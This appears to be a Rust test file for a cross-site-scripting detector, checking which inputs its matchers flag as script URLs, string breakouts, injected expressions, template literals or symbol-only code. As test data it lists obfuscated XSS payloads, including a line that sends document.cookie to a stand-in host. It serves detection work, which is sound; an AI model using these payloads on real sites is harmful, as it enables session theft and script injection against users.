use proptest::prelude::*;

use super::*;
use crate::detect::confirm::testing::query;

#[track_caller]
fn check(confirm: crate::detect::confirm::Confirm, cases: &[(&str, bool)]) {
    for (text, expected) in cases {
        assert_eq!(confirm(&query(text)).is_some(), *expected, "{text}");
    }
}

#[test]
fn script_urls_need_something_to_run() {
    check(
        script_url,
        &[
            ("javascript:alert(1)", true),
            ("\u{1}java\tscr\nipt:alert(1)", true),
            ("[x](JavaScript:alert(1))", true),
            ("javascript://%0aalert(1)", true),
            ("vbscript:MsgBox(1)", true),
            ("javascript:void(0);", false),
            ("javascript:;", false),
            ("Learn JavaScript: the good parts (2008)", false),
            ("javascript: and then it ends", false),
            ("text/x-javascript: yes(no)", false),
        ],
    );
}

#[test]
fn strings_are_left_for_code_that_acts() {
    check(
        string_breakout,
        &[
            ("';alert(1)//", true),
            ("\"-alert(1)-\"", true),
            ("'+eval(name)+'", true),
            ("\\';alert(1)//", true),
            ("\";onerror=alert;throw 1;//", true),
            ("';top['al'+'ert'](1)//", true),
            ("'};document.location='//elsewhere.example';{'", true),
            ("'/**/-/**/confirm`1`-'", true),
            ("';anything(1)//", true),
            ("'-anything()-'", true),
            ("\"a\" + document.title", false),
            ("log(\"a\" + document.getElementById(\"b\"))", false),
            ("don't; alert the guard (twice)", false),
            ("he said 'go', top of the class", false),
            ("'quoted' - document.pdf", false),
            ("it's x - y(z)", false),
        ],
    );
}

#[test]
fn whole_values_can_be_code() {
    check(
        whole_expression,
        &[
            ("alert(1)", true),
            (");alert(document.domain)//", true),
            ("1;alert(1)", true),
            ("x}-alert(1)-{y", true),
            ("(alert)(1)", true),
            ("[].constructor.constructor('x')()", true),
            ("window['al'+'ert'](1)", true),
            ("document.location='//elsewhere.example/'+document.cookie", true),
            ("new Function('x')()", true),
            ("alert(s) received today", false),
            ("function (x) { return x }", false),
            ("document.pdf", false),
            ("top [10] things", false),
            ("prompt", false),
            ("[1, 2, 3]", false),
            ("--location=LOCATION\n\nAll requests go there", false),
            ("-location=name", true),
            ("--alert(1)", true),
        ],
    );
}

#[test]
fn literals_and_symbols() {
    check(
        template_literal,
        &[("${alert(1)}", true), ("x${top['a'](1)}", true), ("${name}", false), ("$5 {alert}", false)],
    );
    check(
        symbol_code,
        &[
            ("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]", true),
            ("[[1],[2],[3]]", false),
            ("[ ] [ ] [ ] [ ] [ ] [ ] [ ] [ ] [ ] [ ] [ ] [ ] [ ]", false),
        ],
    );
}

#[test]
fn effects_are_calls_and_assignments() {
    for (code, expected) in [
        ("run()", true),
        ("run`1`", true),
        ("a=b", true),
        ("throw 1", true),
        ("alert (1)", true),
        ("a==b", false),
        ("a => b", false),
        (" tag (and friends)", false),
        ("name", false),
    ] {
        assert_eq!(has_effect(code.as_bytes()), expected, "{code}");
    }
}

proptest! {
    #[test]
    fn any_text_is_read_without_panic(text in "(alert|top|\\[|\\]|\\(|\\)|'|\"|=|;|/\\*|javascript:|\\PC|[\\x00-\\x20]){0,80}") {
        for confirm in [script_url, string_breakout, whole_expression, template_literal, symbol_code] {
            if let Some(found) = confirm(&query(&text)) {
                prop_assert!(found.start <= found.end && found.end <= text.len());
            }
        }
    }
}
